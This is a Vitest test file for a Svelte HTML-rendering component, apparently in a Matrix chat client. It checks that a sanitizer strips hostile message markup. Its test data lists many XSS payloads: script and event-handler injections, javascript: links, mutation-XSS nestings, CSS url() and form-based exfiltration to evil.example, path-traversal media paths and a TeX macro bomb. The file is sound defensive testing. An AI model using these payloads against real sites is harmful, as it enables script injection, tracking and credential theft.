import { flushSync, mount, unmount } from "svelte";
import { afterEach, expect, test, vi } from "vitest";
import { cleanHtml, MAX_HTML } from "./clean-html.ts";
import { colourCode } from "./code-colours.ts";
import { showPictures, showPills } from "./finish-html.ts";
import Html from "./Html.svelte";
import { drawMaths } from "./maths.ts";
import { PillBook } from "./pill-book.svelte.ts";

let stop: (() => void) | null = null;
afterEach(() => {
  stop?.();
  stop = null;
  document.body.replaceChildren();
});

function show(html: string): { readonly box: HTMLElement; readonly onlink: ReturnType<typeof vi.fn> } {
  const onlink = vi.fn();
  const component = mount(Html, { target: document.body, props: { html, text: "as text", onlink } });
  flushSync();
  stop = () => void unmount(component);
  return { box: document.body, onlink };
}

const allowed =
  "A B BLOCKQUOTE BR BUTTON CAPTION CODE DEL DETAILS DIV EM H1 H2 H3 H4 H5 H6 HR I LI OL P PRE S SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TH THEAD TR U UL".split(
    " ",
  );

// Script, styles, handlers, other schemes, foreign content, and the nestings that change meaning when parsed twice.
const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/track.png>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://example.org" target="_top" onclick="alert(1)">x</a>',
  "<svg onload=alert(1)><path/></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<div class="dialog row spoiler-open" id="app" name="body">x</div>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src=x>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example><link rel=stylesheet href=https://evil.example/x.css>",
  "<video src=https://evil.example/a.mp4 autoplay></video><audio src=x></audio>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<p onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</p>",
  '<span data-mx-color="red;background:url(https://evil.example)">x</span>',
  '<span data-mx-color="#ff0000" data-row="x" data-item-id="$1" data-kind="message">x</span>',
  "<a href='https://example.org'><a href='javascript:alert(1)'>x</a></a>",
  "<x onclick=alert(1)>x</x><custom-element is=button>x</custom-element>",
  "<table><tr><td><img src=x onerror=alert(1)></table>",
  "<b><p><b><p><i><table><b><script>alert(1)</script>",
  "<mx-reply><blockquote>quote of an old client</blockquote></mx-reply>",
];
test.each(hostile)("hostile: %s", (html) => {
  const { box } = show(html);
  for (const element of box.querySelectorAll(".html *")) {
    expect(allowed).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      if (name === "style") expect(value).toMatch(/^--wished-(colour|ground): #[0-9a-f]{6};$/);
      expect(name).not.toMatch(
        /^on|^src|^srcdoc$|^id$|^name$|^target$|^action$|^data-(row|item|kind)|autofocus/,
      );
      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      if (name === "class") expect(value).not.toMatch(/dialog|row/);
    }
  }
  expect(box.innerHTML).not.toMatch(/evil\.example\/(x|track|a)|url\(|quote of an old/);
});

test("what was made safe does not become unsafe when it is parsed again", () => {
  for (const html of hostile) {
    const once = document.createElement("div");
    once.append(cleanHtml(html) ?? "");
    const twice = document.createElement("div");
    twice.innerHTML = once.innerHTML;
    expect(
      twice.querySelector("script,style,svg,math,img,iframe,form,input,[onerror],[onload],[onclick]"),
    ).toBeNull();
  }
});

test("nesting a thousand deep and a body of a megabyte are survived", () => {
  expect(show("<blockquote>".repeat(1000) + "deep").box.textContent).toContain("deep");
  expect(cleanHtml("x".repeat(MAX_HTML + 1))).toBeNull();
});

test("what is too large is shown as its plain text", () => {
  expect(show("x".repeat(MAX_HTML + 1)).box.textContent).toBe("as text");
});

test("formatting of the specification stays", () => {
  const { box } = show(
    '<h1>T</h1><p><b>b</b> <del>d</del> <sub>s</sub></p><ol start="3"><li>x</li></ol><pre><code class="language-ts evil">c</code></pre>',
  );
  expect(box.querySelector("ol")?.getAttribute("start")).toBe("3");
  expect(box.querySelector("code")?.className).toBe("language-ts");
  expect(box.querySelector("del")?.textContent).toBe("d");
});

test("a link shows where it leads, and only the app opens it", () => {
  const { box, onlink } = show('<a href="https://example.org/x">https://bank.example</a>');
  const link = box.querySelector("a")!;
  expect(link.title).toBe("https://example.org/x");
  const click = new MouseEvent("click", { bubbles: true, cancelable: true });
  link.dispatchEvent(click);
  expect(click.defaultPrevented).toBe(true);
  expect(onlink).toHaveBeenCalledExactlyOnceWith("https://example.org/x");
});

test.each([
  "http://example.org/",
  "ftp://example.org/x",
  "mailto:ben@example.org",
  "magnet:?xt=urn:btih:c12fe1c06bba254a9dc9f519b335aa7c1367a88a",
])("%s is one of the addresses the specification allows, and a link (XSS-06)", (address) => {
  const { box, onlink } = show(`<a href="${address}">there</a>`);
  box.querySelector("a")?.click();
  expect(onlink).toHaveBeenCalledExactlyOnceWith(address);
});

test("a spoiler is closed to eye, keyboard and screen reader until it is asked for", () => {
  const { box, onlink } = show(
    '<span data-mx-spoiler="the end">the <a href="https://x.example">butler</a></span>',
  );
  const spoiler = box.querySelector<HTMLElement>(".spoiler")!;
  expect(spoiler.getAttribute("role")).toBe("button");
  expect(spoiler.querySelector(".visually-hidden")?.textContent).toContain("the end");
  expect(spoiler.querySelector(".spoiler-text")?.hasAttribute("inert")).toBe(true);
  spoiler.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true }));
  expect(onlink).not.toHaveBeenCalled();
  expect(spoiler.className).toBe("spoiler-open");
  expect(spoiler.querySelector(".spoiler-text")?.hasAttribute("inert")).toBe(false);
  expect(spoiler.hasAttribute("role")).toBe(false);
});

test("colours are taken as #rrggbb only, and never as style attributes of the sender", () => {
  const { box } = show('<span data-mx-color="#12ab9f">a</span><span data-mx-bg-color="url(x)">b</span>');
  const [first, second] = box.querySelectorAll<HTMLElement>("span");
  expect(first?.style.getPropertyValue("--wished-colour")).toBe("#12ab9f");
  expect(second?.getAttribute("style")).toBeNull();
});

test("pictures in a body are words, not requests", () => {
  const { box } = show('<p>look <img src="mxc://example.org/a" alt="a cat"></p>');
  expect(box.querySelector("img")).toBeNull();
  expect(box.querySelector(".html-image")?.textContent).toBe("a cat");
});

test("code can be copied and scrolls by keyboard", async () => {
  const writeText = vi.fn(() => Promise.resolve());
  vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
  const { box } = show("<pre><code>let a = 1;</code></pre>");
  expect(box.querySelector("pre")?.tabIndex).toBe(0);
  box.querySelector<HTMLElement>(".code-copy")?.click();
  await vi.waitFor(() => expect(box.querySelector(".code-copy")?.textContent).toBe("Copied"), 15_000);
  expect(writeText).toHaveBeenCalledWith("let a = 1;");
  vi.unstubAllGlobals();
});

test("code that the system does not let onto the clipboard is not said to be there", async () => {
  const writeText = vi.fn(() => Promise.reject(new DOMException("no", "NotAllowedError")));
  vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
  const { box } = show("<pre><code>let a = 1;</code></pre>");
  box.querySelector<HTMLElement>(".code-copy")?.click();
  await vi.waitFor(
    () => expect(box.querySelector(".code-copy")?.textContent).toBe("This could not be copied."),
    15_000,
  );
  vi.unstubAllGlobals();
});

test("a mention is a pill that leads inside, and who is meant can be seen", () => {
  const { box, onlink } = show(
    '<p><a href="https://matrix.to/#/@ana:example.org">Ana</a> and <a href="https://matrix.to/#/%40ben%3Aexample.org"></a> in <a href="matrix:r/pier:example.org">here</a></p>',
  );
  const pills = [...box.querySelectorAll<HTMLAnchorElement>("a.mention")];
  expect(pills.map(({ textContent, title, dataset }) => [textContent, title, dataset["target"]])).toEqual([
    ["Ana", "@ana:example.org", "@ana:example.org"],
    ["@ben:example.org", "@ben:example.org", "@ben:example.org"],
    ["here", "#pier:example.org", "#pier:example.org"],
  ]);
  pills[0]?.click();
  expect(onlink).toHaveBeenCalledWith("https://matrix.to/#/@ana:example.org");
});

test("a link to a message is a link, whatever form it has", () => {
  const { box } = show('<a href="matrix:roomid/room:example.org/e/event">x</a>');
  expect(box.querySelector(".mention")).toBeNull();
  expect(box.querySelector("a")?.getAttribute("href")).toBe("https://matrix.to/#/!room:example.org/$event");
});

test.each([
  "https://matrix.to.evil.example/#/@ana:example.org",
  "https://matrix.to/#/@ana",
  "https://matrix.to/#/%40%E0%A4%A",
])("%s stays the link it is", (href) => {
  const { box } = show(`<a href="${href}">x</a>`);
  expect(box.querySelector(".mention")).toBeNull();
  expect(box.querySelector("a")?.getAttribute("href")).toContain("matrix.to");
});

test("addresses in the text of formatted bodies are links too, but not in code", () => {
  const { box } = show("<b>see</b> https://example.org/a. <code>https://example.org/b</code>");
  expect([...box.querySelectorAll("a")].map(({ href }) => href)).toEqual(["https://example.org/a"]);
});

test("formulas are drawn as MathML; what is no formula stays the code it is", async () => {
  const { box } = show(
    '<span data-mx-maths="\\frac{a}{b}"><code>a/b</code></span><div data-mx-maths="\\nosuch{"><code>words</code></div>' +
      '<span data-mx-maths="\\href{javascript:alert(1)}{x}"><code>link</code></span>',
  );
  await vi.waitFor(() => expect(box.querySelector("math mfrac")).not.toBeNull(), { timeout: 15_000 });
  await vi.waitFor(() => expect(box.textContent).toContain("words"), 15_000);
  expect(box.querySelector("a, [href], [style], annotation, script")).toBeNull();
});

test("a formula that grows without end is not drawn", async () => {
  const bomb = "\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\a\\a}\\a";
  expect(await drawMaths(bomb, false)).toBeNull();
  expect(await drawMaths("x".repeat(2001), false)).toBeNull();
});

test("code is coloured by its language, and not a character of it changes", async () => {
  const source = 'const a = "<b>"; // note\n';
  const coloured = await colourCode(source, "ts");
  expect(coloured?.textContent).toBe(source);
  expect([...(coloured?.querySelectorAll("span") ?? [])].map(({ className }) => className)).toEqual(
    expect.arrayContaining(["code-keyword", "code-string", "code-comment"]),
  );
  expect(coloured?.querySelector("b")).toBeNull();
  for (const language of ["no-such-language", "__proto__", "constructor"])
    expect(await colourCode(source, language)).toBeNull();
  expect(await colourCode("x".repeat(20_001), "ts")).toBeNull();
});

test("a pill says how somebody is called now, in one question for all of them", async () => {
  const asked: (readonly string[])[] = [];
  const book = new PillBook(
    (ids) => {
      asked.push(ids);
      const known = { kind: "person", userId: "@ana:x", name: "Ana Now", avatar: null, isOwn: true };
      return Promise.resolve(ids.map((id) => (id === "@ana:x" ? (known as never) : null)));
    },
    (path) => path,
  );
  const box = document.createElement("div");
  box.append(
    cleanHtml('<a href="https://matrix.to/#/@ana:x">Old</a> <a href="https://matrix.to/#/@ben:x">Ben</a>')!,
  );
  showPills(box, book);
  await vi.waitFor(() => expect(book.find("@ana:x")).not.toBeNull(), 15_000);
  showPills(box, book);
  expect([...box.querySelectorAll("a")].map(({ textContent }) => textContent)).toEqual(["Ana Now", "Ben"]);
  expect(box.querySelector(".mention-own")?.textContent).toBe("Ana Now");
  expect(asked).toEqual([["@ana:x", "@ben:x"]]);
});

test("a sender cannot borrow the looks of a mention", () => {
  const { box } = show('<span class="mention">Ana</span>');
  expect(box.querySelector(".mention")).toBeNull();
});

const path = "media/hs.example%3A8448/a?width=96&height=96&method=scale";
const pictures = (html: string): HTMLElement => {
  const { box } = show(html);
  showPictures(box, (one) => `http://here/${one}`);
  return box;
};

test("a picture that main serves stands in the place of its words, and they come back where it fails", () => {
  const box = pictures(
    `<p>look <img data-mxc="${path}" alt=":cat:" title="cat" width="40" height="30"> ` +
      `<img data-mxc="${path}" data-mx-emoticon alt="wave" height="32"></p>`,
  );
  const [picture, emoticon] = box.querySelectorAll("img");
  expect(picture?.src).toBe(`http://here/${path}`);
  expect([picture?.alt, picture?.title, picture?.className]).toEqual([":cat:", "cat", "html-picture"]);
  expect([picture?.getAttribute("width"), picture?.getAttribute("height")]).toEqual(["40", "30"]);
  // Its size is that of the words around it, whatever was wished.
  expect([emoticon?.className, emoticon?.getAttribute("height")]).toEqual(["emoticon", null]);
  picture?.dispatchEvent(new Event("error"));
  expect(box.querySelector(".html-image")?.textContent).toBe(":cat:");
});

test.each([
  "https://evil.example/track.png",
  "media/../token?width=96&height=96&method=scale",
  "media/%2e%2e/token?width=96&height=96&method=scale",
  "media/../../x/y?width=96&height=96&method=scale",
  "media/hs.example/a",
  "media/hs.example/a?width=96&height=96&method=scale#x",
  "media/hs.example/a/../b?width=96&height=96&method=scale",
  "//evil.example/a/b?width=96&height=96&method=scale",
])("no picture is asked for at %s: the words stand", (at) => {
  const box = pictures(`<img data-mxc="${at}" alt="words">`);
  expect(box.querySelector("img")).toBeNull();
  expect(box.textContent).toContain("words");
});

test("of very many pictures the first are shown, the others are words", () => {
  const box = pictures(`<img data-mxc="${path}" alt="a">`.repeat(120));
  expect(box.querySelectorAll("img")).toHaveLength(50);
  expect(box.querySelectorAll(".html-image")).toHaveLength(70);
});
